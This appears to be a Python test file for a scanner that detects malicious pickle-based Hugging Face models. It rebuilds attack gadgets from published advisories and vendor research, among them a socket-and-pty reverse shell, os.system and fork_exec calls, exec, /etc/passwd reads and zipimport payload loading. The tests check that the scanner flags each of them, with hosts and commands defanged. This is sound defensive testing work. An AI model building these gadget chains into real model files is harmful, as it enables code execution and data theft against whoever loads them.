"""fickling advisories, deny-list entries of the peer scanners and vendor research on malicious
Hugging Face models, rebuilt from opcodes (defanged: echo, 127.0.0.1, /tmp/malhug-sentinel-*)."""

from __future__ import annotations

from malhug.core.model import Category, Severity, Verdict
from tests.advisories.helpers import CODE, ECHO, HOST, caught
from tests.builders.pickles import Call, Global, call, pickle_of
from tests.pickle.helpers import scan

REVERSE_SHELL = (
    f"import socket,os,pty;s=socket.socket();s.connect(('{HOST}',4242));"
    "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')"
)


def test_ghsa_6ggj_6f2q_f7mx_interpreters_run_string() -> None:
    """fickling GHSA-6ggj-6f2q-f7mx: _interpreters / _xxsubinterpreters run_string(id, code) runs code."""
    for module in ("_interpreters", "_xxsubinterpreters"):
        data = pickle_of([call(f"{module}.run_string", 1, CODE)], protocol=2)
        f = caught(data, "MH101", Category.CODE_EXEC, f"{module}.run_string")
        assert "constant code" in f.message  # the code is the second argument


def test_ghsa_m6fh_58r7_x697_posixsubprocess_fork_exec() -> None:
    """fickling GHSA-m6fh-58r7-x697 (_posixsubprocess): fork_exec(argv, ...) starts a program directly."""
    argv = [b"/bin/sh", b"-c", ECHO.encode()]
    data = pickle_of([call("_posixsubprocess.fork_exec", argv, [b"/bin/sh"], True, (), None, None)], protocol=2)
    caught(data, "MH101", Category.COMMAND_EXEC, "_posixsubprocess.fork_exec")


def test_ghsa_m6fh_58r7_x697_site_addsitedir() -> None:
    """fickling GHSA-m6fh-58r7-x697 (site): site.addsitedir(dir) executes the import lines of its .pth files."""
    data = pickle_of([call("site.addsitedir", "/tmp/malhug-sentinel-site")], protocol=2)
    caught(data, "MH101", Category.CODE_EXEC, "site.addsitedir")


def test_ghsa_m6fh_58r7_x697_atexit_register() -> None:
    """fickling GHSA-m6fh-58r7-x697 (atexit): atexit.register(os.system, cmd) runs the command at exit."""
    data = pickle_of([call("atexit.register", Global("os", "system"), ECHO)], protocol=2)
    report = scan(data)
    f = caught(data, "MH101", Category.CODE_EXEC, "atexit.register", evidence="os.system")
    assert f.severity >= Severity.HIGH and report.verdict is Verdict.MALICIOUS


def test_ghsa_pc6j_px3p_rrj4_unittest_mock_importer() -> None:
    """fickling GHSA-pc6j-px3p-rrj4 (unittest/test import gadgets): unittest.mock._importer('os') then getattr."""
    expr = Call(call("builtins.getattr", call("unittest.mock._importer", "os"), "system"), (ECHO,))
    f = caught(pickle_of([expr], protocol=4), "MH102", Category.COMMAND_EXEC, "os.system")
    assert "unittest.mock._importer" in f.message


def test_ghsa_pc6j_px3p_rrj4_doctest_debug_src() -> None:
    """fickling GHSA-pc6j-px3p-rrj4 (doctest): doctest.debug_src(source) runs the examples in the text."""
    data = pickle_of([call("doctest.debug_src", f">>> {CODE}\n")], protocol=2)
    caught(data, "MH101", Category.CODE_EXEC, "doctest.debug_src")


def test_ghsa_fphw_536r_4p88_pickle_python_fallback_loads() -> None:
    """fickling GHSA-fphw-536r-4p88: pickle._loads (the pure-Python unpickler) as a nested loader."""
    inner = pickle_of([call("os.system", ECHO)], protocol=2)
    data = pickle_of([call("pickle._loads", inner)], protocol=3)
    caught(data, "MH104", Category.CODE_EXEC, "pickle._loads")
    nested = caught(data, "MH101", Category.COMMAND_EXEC, "os.system", evidence=ECHO)
    assert nested.location.member is not None and nested.location.member.startswith("pickle._loads@")


def test_fickling_breakpoint() -> None:
    """fickling UNSAFE_IMPORTS (builtins debugger hooks): builtins.breakpoint() stops the loading process."""
    caught(pickle_of([call("builtins.breakpoint")], protocol=2), "MH101", Category.CODE_EXEC, "breakpoint")


def test_fickling_sys_settrace() -> None:
    """fickling UNSAFE_IMPORTS `sys`: sys.settrace(hook) installs a hook that runs on every line."""
    data = pickle_of([call("sys.settrace", Global("builtins", "print"))], protocol=2)
    caught(data, "MH101", Category.CODE_EXEC, "sys.settrace")


def test_picklescan_os_wildcard_execvp_and_posix_spawn() -> None:
    """picklescan `os` wildcard: os.execvp and os.posix_spawn replace or start a program."""
    caught(
        pickle_of([call("os.execvp", "echo", ["echo", "malhug"])], protocol=2),
        "MH101",
        Category.COMMAND_EXEC,
        "os.execvp",
    )
    caught(
        pickle_of([call("os.posix_spawn", "/bin/echo", ["echo", "x"], {})], protocol=2),
        "MH101",
        Category.COMMAND_EXEC,
        "os.posix_spawn",
    )


def test_fickling_shutil_and_tempfile_writes() -> None:
    """fickling UNSAFE_IMPORTS `shutil`, `tempfile`: copying over a file and creating temp files."""
    data = pickle_of([call("shutil.copyfile", "/etc/hostname", "/tmp/malhug-sentinel-copy")], protocol=2)
    caught(data, "MH101", Category.FILE_WRITE, "shutil.copyfile")
    data = pickle_of([call("tempfile.NamedTemporaryFile", "w", -1, None, None, "", "", "/tmp", False)], protocol=2)
    caught(data, "MH101", Category.FILE_WRITE, "tempfile.NamedTemporaryFile")


def test_fickling_linecache_reads_a_credential_file() -> None:
    """fickling UNSAFE_IMPORTS `linecache` (file reading): linecache.getline('/etc/passwd', 1)."""
    f = caught(
        pickle_of([call("linecache.getline", "/etc/passwd", 1)], protocol=2),
        "MH101",
        Category.CREDENTIAL_THEFT,
        "linecache.getline",
    )
    assert "/etc/passwd" in f.evidence


def test_fickling_linecache_other_file_is_still_malicious() -> None:
    """fickling UNSAFE_IMPORTS `linecache`: reading an arbitrary file at load time (recon when no
    credential store is named)."""
    data = pickle_of([call("linecache.getlines", "/tmp/malhug-sentinel-notes")], protocol=2)
    f = caught(data, "MH101", Category.RECON, "linecache.getlines")
    assert f.severity is Severity.HIGH


def test_fickling_zipimport_loads_code_from_a_zip() -> None:
    """fickling UNSAFE_IMPORTS `zipimport`: zipimporter(path).load_module(name) imports code from a zip."""
    importer = call("zipimport.zipimporter", "/tmp/malhug-sentinel.zip")
    data = pickle_of([Call(call("builtins.getattr", importer, "load_module"), ("payload",))], protocol=4)
    caught(data, "MH101", Category.CODE_EXEC, "zipimport.zipimporter")


def test_jfrog_silent_backdoor_reverse_shell_via_exec() -> None:
    """JFrog (https://jfrog.com/blog/data-scientists-targeted-by-malicious-hugging-face-ml-models-with-silent-backdoor/):
    a torch model whose __reduce__ runs exec() of a socket + pty reverse shell (host defanged)."""
    data = pickle_of([call("builtins.exec", REVERSE_SHELL)], protocol=2)
    f = caught(data, "MH101", Category.REVERSE_SHELL, "exec", evidence="pty.spawn")
    assert f.severity is Severity.CRITICAL


def test_picklescan_runpy_run_code() -> None:
    """picklescan `runpy` wildcard (commit 62e76cf, "includes runpy._run_code"): runpy._run_code(code,
    globals) runs code without naming exec or eval."""
    data = pickle_of([call("runpy._run_code", CODE, {})], protocol=2)
    caught(data, "MH101", Category.CODE_EXEC, "runpy._run_code")


def test_picklescan_webbrowser_open() -> None:
    """picklescan `webbrowser` wildcard (commit 62e76cf): webbrowser.open(url) launches a program at load time."""
    data = pickle_of([call("webbrowser.open", f"http://{HOST}/malhug")], protocol=2)
    caught(data, "MH101", Category.COMMAND_EXEC, "webbrowser.open")


def test_notes_posixpath_os_system_chain() -> None:
    """Module-attribute chains (measured: picklescan calls posixpath_os_system.pkl only suspicious, modelscan
    clean, bench/models/RESULTS.md): posixpath + os.system (protocol 4 dotted name)."""
    f = caught(pickle_of([call("posixpath.os.system", ECHO)], protocol=4), "MH102", Category.COMMAND_EXEC, "os.system")
    assert "attribute chain" in f.message
